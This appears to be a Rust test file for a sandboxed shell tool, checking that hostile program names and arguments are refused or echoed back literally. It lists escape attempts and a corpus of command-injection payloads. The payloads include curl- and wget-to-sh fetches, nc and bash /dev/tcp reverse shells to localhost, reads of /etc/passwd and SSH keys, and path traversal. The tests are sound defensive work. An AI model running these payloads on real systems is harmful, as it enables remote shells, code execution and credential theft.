//! Hostile program names and arguments through the real `bastion shell` binary: the Desktop
//! Commander bypasses as argv (shells, wrappers, interpreters, quoted and path-qualified program
//! names, shell metacharacters in arguments), and a corpus of command-injection payloads as an
//! argument to `echo` (must come back literally) and `ls` (never executed), as `cwd` and as the
//! program name. The box and the checks after each case are in `common/mod.rs`.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::time::Duration;

use serde_json::json;

mod common;
use common::*;

// ---------------------------------------------------------------------------------------------
// Tables (the Python suite's, case for case)
// ---------------------------------------------------------------------------------------------

const PROGRAM_BYPASSES: [(&str, &[&str]); 54] = [
    ("sh", &["-c", "touch {outside}/{m}"]),
    ("bash", &["-c", "touch {outside}/{m}"]),
    ("dash", &["-c", "touch {m}"]),
    ("zsh", &["-c", "touch {m}"]),
    ("busybox", &["sh", "-c", "touch {m}"]),
    ("env", &["touch", "{outside}/{m}"]),
    ("env", &["-i", "sh", "-c", "touch {m}"]),
    ("xargs", &["-a", "names.lst", "touch"]),
    ("eval", &["touch {m}"]),
    ("exec", &["touch", "{m}"]),
    ("command", &["touch", "{m}"]),
    ("builtin", &["touch", "{m}"]),
    ("\\touch", &["{m}"]),
    ("'touch'", &["{m}"]),
    ("\"touch\"", &["{m}"]),
    ("touch", &["{m}"]),
    ("ls\ntouch {m}", &[]),
    ("ls\ntouch", &["{m}"]),
    ("ls;touch", &["{m}"]),
    ("ls && touch {m}", &[]),
    ("ls touch", &["{m}"]),
    ("ls ", &[]),
    (" ls", &[]),
    ("LS", &[]),
    ("ls\x00", &[]),
    ("{", &["touch", "{m};", "}"]),
    ("$(echo touch)", &["{m}"]),
    ("`echo touch`", &["{m}"]),
    ("${IFS}touch", &["{m}"]),
    ("python3", &["-c", "open('{outside}/{m}','w')"]),
    ("python", &["-c", "open('{outside}/{m}','w')"]),
    ("perl", &["-e", "open(F,'>{outside}/{m}')"]),
    ("ruby", &["-e", "File.write('{m}','')"]),
    ("node", &["-e", "require('fs').writeFileSync('{outside}/{m}','')"]),
    ("awk", &["BEGIN{system(\"touch {outside}/{m}\")}"]),
    ("gawk", &["BEGIN{system(\"touch {m}\")}"]),
    ("sed", &["-n", "1e touch {outside}/{m}", "a.txt"]),
    ("git", &["-c", "core.pager=touch {outside}/{m}", "log"]),
    ("sudo", &["touch", "{outside}/{m}"]),
    ("su", &["-c", "touch {m}"]),
    ("timeout", &["5", "touch", "{outside}/{m}"]),
    ("nice", &["touch", "{outside}/{m}"]),
    ("nohup", &["touch", "{m}"]),
    ("setsid", &["touch", "{m}"]),
    ("stdbuf", &["-o0", "touch", "{m}"]),
    ("strace", &["-o", "{m}", "true"]),
    ("unshare", &["-r", "touch", "{m}"]),
    ("/bin/ls", &[]),
    ("/usr/bin/touch", &["{outside}/{m}"]),
    ("./touch", &["{m}"]),
    ("../bin/ls", &[]),
    ("bin/ls", &[]),
    ("{root}/touch", &["{m}"]),
    ("", &[]),
];

/// Shell syntax in an argument: `echo` prints it back verbatim, `ls` looks for a file of that
/// name (it never runs anything).
const ARG_BYPASSES: [&str; 16] = [
    "; touch {m}",
    "&& touch {m}",
    "|| touch {m}",
    "| touch {m}",
    "& touch {m}",
    "$(touch {m})",
    "`touch {m}`",
    "\ntouch {m}",
    "> {m}",
    ">> {m}",
    "2>{m}",
    "<(touch {m})",
    "${IFS}touch${IFS}{m}",
    "';touch {m};'",
    "\";touch {m};\"",
    "touch {outside}/{m}",
];

// ---------------------------------------------------------------------------------------------
// a. Desktop Commander bypasses as argv
// ---------------------------------------------------------------------------------------------

#[test]
fn program_bypasses_are_refused() {
    let cases: Vec<(&str, &str, &[&str])> = ["read-only", "build-test"]
        .iter()
        .flat_map(|profile| PROGRAM_BYPASSES.iter().map(move |(p, a)| (*profile, *p, *a)))
        .collect();
    each(
        &cases,
        |(profile, p, a)| format!("{profile} {p:?} {a:?}"),
        |&(profile, program, args)| {
            let mut b = build_box();
            let mut s = shell(&b.root, profile);
            let (program, args) = (b.sub(program), b.sub_all(args));
            let (code, out) = b.run(&mut s, &program, &args, None);
            if profile == "build-test" && program == "node" {
                // node is a build-test program (it runs project code by design): it runs, contained.
                let stderr = out["stderr"].as_str().unwrap_or_default();
                assert!(
                    code.is_none() && out["exit_code"] != 0 && (stderr.contains("EACCES") || stderr.contains("EROFS")),
                    "{out}"
                );
            } else {
                assert!(code.as_deref().is_some_and(|c| REFUSED.contains(&c)), "{program:?} {args:?} {code:?}");
                let (code, _) = b.call(&mut s, "start_process", json!({"program": program, "args": args}));
                assert!(code.as_deref().is_some_and(|c| REFUSED.contains(&c)), "{program:?} {args:?} {code:?}");
            }
            drop(s);
            b.assert_contained(false);
        },
    );
}

#[test]
fn shell_syntax_in_arguments_is_literal() {
    each(
        &ARG_BYPASSES,
        |p| format!("{p:?}"),
        |payload| {
            let mut b = build_box();
            let payload = b.sub(payload);
            let mut s = shell(&b.root, "read-only");
            let (code, out) = b.run(&mut s, "echo", std::slice::from_ref(&payload), None);
            assert!(
                code.is_none() && out["stdout"] == format!("{payload}\n") && out["args"] == json!([payload]),
                "{out}"
            );
            let (code, out) = b.run(&mut s, "echo", &["touch".into(), payload.clone(), "x".into()], None);
            assert!(code.is_none() && out["stdout"] == format!("touch {payload} x\n"), "{out}");
            let (code, out) = b.run(&mut s, "ls", std::slice::from_ref(&payload), None);
            match code {
                None => {
                    assert!(out["exit_code"] == 2 && out["stderr"].as_str().unwrap().contains("No such file"), "{out}");
                    assert_eq!(out["args"], json!(["--", payload]));
                }
                Some(c) => assert_eq!(c, "path_outside_root", "{payload:?}"),
            }
            let (code, out) = b.run(&mut s, "cat", &["in.txt".into(), payload.clone()], None);
            if code.is_none() {
                assert!(
                    out["stdout"] == "hello\nworld\n" && out["stderr"].as_str().unwrap().contains("No such file"),
                    "{out}"
                );
            }
            drop(s);
            b.assert_contained(false);
        },
    );
}

// ---------------------------------------------------------------------------------------------
// d. Command-injection payloads
// ---------------------------------------------------------------------------------------------

const PAYLOADS: [&str; 114] = [
    ";id",
    ";id;",
    "; id",
    "|id",
    "| id",
    "||id",
    "|| id",
    "&id",
    "& id &",
    "&&id",
    "&& id",
    "a;id",
    "a|id",
    "a&&id",
    "a||id",
    "; touch {m}",
    "| touch {m}",
    "&& touch {m}",
    "|| touch {m};",
    "& touch {m} &",
    "$(id)",
    "`id`",
    "$(touch {m})",
    "`touch {m}`",
    "$(sleep 5)",
    "`sleep 5`",
    "$(sleep${IFS}5)",
    "; sleep 5",
    "| sleep 5 #",
    "&& sleep 5",
    "$((1+1))",
    "${PATH}",
    "$PATH",
    "${HOME}",
    "$0",
    "$$",
    "${PATH:0:1}bin",
    "$(cat /etc/passwd)",
    "`cat {outside}/sentinel.txt`",
    "$(<{outside}/sentinel.txt)",
    "<(touch {m})",
    ">(touch {m})",
    "${IFS}id",
    "$IFS$9id",
    ";touch${IFS}{m}",
    "{touch,{m}}",
    "cat${IFS}/etc/passwd",
    "\nid",
    "\nid\n",
    "\ntouch {m}",
    "\x0d\nid",
    "\x0dtouch {m}",
    "%0aid",
    "%0Atouch%20{m}",
    "%0d%0aid",
    "\\nid",
    "a\u{2028}id",
    "a\u{85}id",
    "\x0bid",
    "\x0cid",
    "> {m}",
    ">> {m}",
    ">| {m}",
    "2> {m}",
    "&> {m}",
    "< /etc/passwd",
    "<> {m}",
    "1>&2",
    "';touch {m};'",
    "\";touch {m};\"",
    "\\;touch {m}",
    "'$(id)'",
    "\"$(id)\"",
    "$'\\x3b'id",
    "$'\\ntouch {m}'",
    "&& curl http://127.0.0.1:9/x | sh",
    "; wget -qO- http://127.0.0.1:9/x | sh",
    "| nc -e /bin/sh 127.0.0.1 9",
    "; bash -i >& /dev/tcp/127.0.0.1/9 0>&1",
    "|| python3 -c 'import os; os.system(\"id\")'",
    "*",
    "?",
    "[a-z]*",
    "**/*",
    ".*",
    "!!",
    "!-1",
    "~",
    "~root",
    "~/.ssh/id_rsa",
    "-e \\x41",
    "-n",
    "--help",
    "--version",
    "-rf /",
    "--",
    "-",
    "../../../../../../etc/passwd",
    "..%2f..%2fetc%2fpasswd",
    "%2e%2e/%2e%2e/etc/passwd",
    "....//....//etc/passwd",
    "\u{37e} touch {m}",
    "\u{ff1b} touch {m}",
    "\u{ff5c} touch {m}",
    "\u{ff04}(touch {m})",
    "\u{200b}touch {m}",
    "touch\u{a0}{m}",
    "\u{202e}id",
    "\u{feff}id",
    "\u{e9};id",
    "\u{1f4a5};id",
    "x\tid",
    "\x1b[31mred\x1b[0m",
    "\x07\x08\x7f",
    // "a" repeated 4 000 times is added by `payloads()`.
];

/// The corpus, with the one payload too long to write out.
fn payloads() -> Vec<String> {
    PAYLOADS.iter().map(|p| p.to_string()).chain(["a".repeat(4000)]).collect()
}

#[test]
fn injection_payloads() {
    let all = payloads();
    let indexed: Vec<(usize, &String)> = all.iter().enumerate().collect();
    each(
        &indexed,
        |(i, p)| format!("{i:03}-{:?}", p.chars().take(20).collect::<String>()),
        |&(_, payload)| {
            let mut b = build_box();
            let payload = b.sub(payload);
            let mut s = shell(&b.root, "read-only");
            // (i) echo: back verbatim, byte for byte.
            let t0 = std::time::Instant::now();
            let (code, out) = b.run(&mut s, "echo", &["BEGIN".into(), payload.clone(), "END".into()], None);
            assert!(code.is_none(), "{code:?} {out}");
            assert_eq!(out["stdout"], format!("BEGIN {payload} END\n"), "{out}");
            assert!(out["exit_code"] == 0 && out["stderr"] == "");
            // ls: refused, or an ls error about that exact name; never executed.
            let (code, out) = b.run(&mut s, "ls", std::slice::from_ref(&payload), None);
            match code.as_deref() {
                None if payload == "--" || payload == "-n" => {
                    assert_eq!(out["exit_code"], 0, "an allowed ls option, listing the cwd: {out}");
                }
                None => {
                    assert!(out["exit_code"] == 2 && out["stdout"] == "", "{out}");
                    let stderr = out["stderr"].as_str().unwrap();
                    assert!(stderr.contains("No such file") || stderr.contains("File name too long"), "{out}");
                }
                Some(c) => assert!(
                    ["argument_not_allowed", "path_outside_root", "denied_by_glob", "invalid_path"].contains(&c),
                    "{c} {out}"
                ),
            }
            // (ii) cwd: refused, or an existing directory inside the root.
            let (code, out) = b.call(&mut s, "run_command", json!({"program": "pwd", "cwd": payload}));
            match code.as_deref() {
                None => {
                    let here = std::fs::canonicalize(out["stdout"].as_str().unwrap().trim()).unwrap();
                    assert!(here.starts_with(&b.root), "{out}");
                }
                Some(c) => assert!(
                    [
                        "path_outside_root",
                        "not_found",
                        "invalid_path",
                        "not_a_directory",
                        "denied_by_glob",
                        "name_too_long"
                    ]
                    .contains(&c),
                    "{c} {out}"
                ),
            }
            // The payload as a program name.
            let (code, out) = b.call(&mut s, "run_command", json!({"program": payload, "args": []}));
            assert!(code.as_deref().is_some_and(|c| REFUSED.contains(&c)), "{code:?} {out}");
            let elapsed = t0.elapsed();
            assert!(elapsed < Duration::from_secs(3), "four calls took {elapsed:?}");
            drop(s);
            b.assert_contained(false);
        },
    );
}
